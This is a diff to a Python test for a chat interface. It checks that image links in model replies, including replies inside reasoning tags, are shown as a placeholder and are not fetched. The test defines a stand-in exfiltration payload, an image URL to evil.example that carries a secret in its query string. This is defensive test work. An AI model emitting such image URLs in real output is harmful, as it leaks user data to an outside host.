@@ -19,6 +19,7 @@ from hfchat.backends import Delta
 from hfchat.config import Backend
 from hfchat.reply import Reply, ReplySource
 from hfchat.safe_markdown import safe_images
+from hfchat.ui.render import to_messages
 
 LEAK = "http://evil.example:8080/leak.png?d=SECRET"
 DATA = "data:image/png;base64,iVBORw0KGgo="
@@ -144,7 +145,7 @@ def test_replies_render_thinking_and_answer_safely() -> None:
     reply = Reply(ReplySource(Backend.ENDPOINT, "m"))
     reply.add(Delta(text=f"<think>peek ![]({LEAK})</think>Here: <img src='{LEAK}'>"))
     reply.finish()
-    contents = [m["content"] for m in reply.messages(show_speed=False)]
+    contents = [m["content"] for m in to_messages(reply.view(show_speed=False))]
     assert len(contents) == 2
     for content in contents:
         assert fetched(content) == [] and "image from evil.example:8080 — show" in content
